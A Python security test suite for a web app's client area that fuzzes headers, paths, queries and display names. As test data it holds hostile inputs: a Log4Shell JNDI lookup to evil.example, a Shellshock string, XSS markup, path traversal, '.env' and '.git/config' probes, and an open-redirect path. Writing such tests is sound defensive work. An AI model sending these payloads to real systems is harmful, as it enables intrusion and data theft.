"""Headers, cookies, paths and queries that no browser sends; and readings that write nothing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.html import parse_page
from tests.properties import examples
from tests.reader import Reader
from tests.security.hostile import FIELDS, MARKUP, PAGES, check

pytestmark = pytest.mark.seldom_on_postgresql

HEADERS = [
    *("ACCEPT", "ACCEPT_LANGUAGE", "ACCEPT_ENCODING", "AUTHORIZATION", "COOKIE", "HOST", "ORIGIN"),
    *("REFERER", "USER_AGENT", "RANGE", "IF_MODIFIED_SINCE", "IF_NONE_MATCH", "IF_RANGE"),
    *("SEC_FETCH_SITE", "HX_REQUEST", "HX_REQUEST_TYPE", "HX_TARGET", "X_FORWARDED_FOR"),
    *("X_FORWARDED_PROTO", "X_FORWARDED_HOST", "X_CSRFTOKEN", "X_HTTP_METHOD_OVERRIDE"),
    *("CONNECTION", "UPGRADE", "TRANSFER_ENCODING", "EXPECT", "CONTENT_ENCODING"),
]
VALUES = [
    *("", " ", "\x00", "\xff\xfe", "x" * 9000, "," * 5000, ";" * 5000, "a=b;" * 3000, '"' * 999),
    *("\u00e9", "${jndi:ldap://evil.example/a}", "() { :; }; echo", "%s%n%x", "bytes=0-,1-,2-"),
    *("clientarea=x; clientarea=y; clientarea-language=\x00", MARKUP, "-1", "9" * 400, "[", "://"),
]
LATIN = st.text(st.characters(max_codepoint=255), max_size=40)


def environ(name: str, value: str) -> dict[str, str]:
    return {f"HTTP_{name}": value}


@pytest.mark.parametrize("value", VALUES)
def test_any_header_may_hold_anything(signed_in, app, value):
    reader = signed_in()
    for name in HEADERS:
        for path in ("/login", "/profile", "/nothing"):
            clients = (reader.client, app.test_client(use_cookies=False))
            for client in clients:
                answer = client.get(path, environ_overrides=environ(name, value))
                check(answer)
                assert "<svg" not in answer.text
                assert "evil.example" not in str(answer.headers)


@examples(200)
@given(
    path=st.sampled_from(PAGES),
    headers=st.dictionaries(st.sampled_from(HEADERS), LATIN, max_size=4),
    query=LATIN,
    peer=LATIN,
)
def test_any_headers_with_any_query_are_answered(app, path, headers, query, peer):
    overrides = {f"HTTP_{name}": value for name, value in headers.items()}
    overrides |= {"QUERY_STRING": query, "REMOTE_ADDR": peer}
    client = app.test_client(use_cookies=False)
    check(client.get(path, environ_overrides=overrides))
    check(client.post(path, environ_overrides=overrides))


@examples(200)
@given(LATIN)
def test_any_path_is_answered(app, path):
    for start in ("", "/", "/profile/", "/static/", "/brand/"):
        answer = app.test_client().get("/", environ_overrides={"PATH_INFO": start + path})
        check(answer)


@pytest.mark.parametrize(
    "path",
    [
        *("/%00", "/\xff", "/profile\x00", "/profile/../account", "/./profile", "/profile;a=b"),
        *("/profile%2fphone", "/PROFILE", "/profile.json", "/profile~", "/.git/config", "/.env"),
        *("//evil.example", "/\\evil.example", "/" + "a/" * 2000, "/" + "x" * 9000, "/*", "/?/"),
        *("/profile/phone/edit/1", "/profile/1", "/-1", "/login.php", "/wp-admin", "/api/v1/users"),
    ],
)
def test_odd_paths_are_not_found(app, path):
    answer = app.test_client().get("/", environ_overrides={"PATH_INFO": path})
    check(answer)
    assert answer.status_code in (303, 404)
    if answer.status_code == 303:
        assert answer.headers["Location"].startswith("/login")


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("is_signed_in", [True, False])
def test_markup_in_a_query_never_becomes_markup(signed_in, app, path, is_signed_in):
    client = signed_in().client if is_signed_in else app.test_client()
    for value in (MARKUP, "javascript:alert(1)", "\x00\ufffe", "/" + MARKUP):
        answer = client.get(path, query_string=dict.fromkeys(FIELDS, value))
        check(answer)
        assert "<svg" not in answer.text
        assert "javascript:" not in answer.text
        if answer.text.startswith("<!doctype"):
            assert not parse_page(answer.text).all("svg")


@pytest.mark.parametrize("code", ["name-saved", "signed-out"])
def test_a_status_is_looked_up_never_echoed(signed_in, code):
    client = signed_in().client
    assert "ca-done" in client.get(f"/profile?ok={code}").text
    for junk in ("Hello", f"{code}<b>", code.upper(), "", "__class__"):
        assert "ca-done" not in client.get("/profile", query_string={"ok": junk}).text


DRAWN = (
    *("DELETE FROM authenticators", "INSERT INTO authenticators"),
    "UPDATE users SET passkey_handle",
)
"""What is drawn for a page that shows it, and must be there when its form comes back."""


def test_reading_writes_nothing(app, signed_in, queries):
    reader = signed_in()
    routes = [
        str(rule).replace("<version>", "1")
        for rule in app.url_map.iter_rules()
        if "GET" in (rule.methods or ())
    ]
    assert len(routes) > 10
    with queries() as sent:
        for route in routes:
            for query in ("", "?lang=de&next=/profile&ok=name-saved&countries=all&area=Asia"):
                for headers in ({}, {"HX-Request": "true"}):
                    check(reader.client.get(route + query, headers=headers))
    assert sent
    assert [sql for sql in sent if not sql.startswith(("SELECT", "PRAGMA", *DRAWN))] == []


@pytest.mark.parametrize("name", ["<script>alert(1)</script>", MARKUP, "\u202egro.elpmaxe"])
def test_a_hostile_name_is_text_wherever_it_is_shown(app, build, name):
    eve, anna = build.client(name, email="eve@example.com"), build.client("Anna")
    build.seat(anna, eve, "profile.read")
    for person, shown in ((anna, ["/switch"]), (eve, ["/account", "/profile", "/logout"])):
        reader = Reader(app).sign_in(person)
        for path in ("/switch", "/account", "/profile", "/logout", "/profile/name/edit"):
            text = reader.open(path).response.text
            assert "<script>" not in text
            assert "<svg" not in text
            holders = [e for e in reader.page.all("bdi") if "".join(e.itertext()) == name]
            assert holders or path not in shown, f"{path} does not set the name apart"
    assert list(reader.open("/profile").page.by_id("name").iter("bdi"))
    assert reader.open("/profile/name/edit").page.by_id("name-line").get("dir") == "auto"
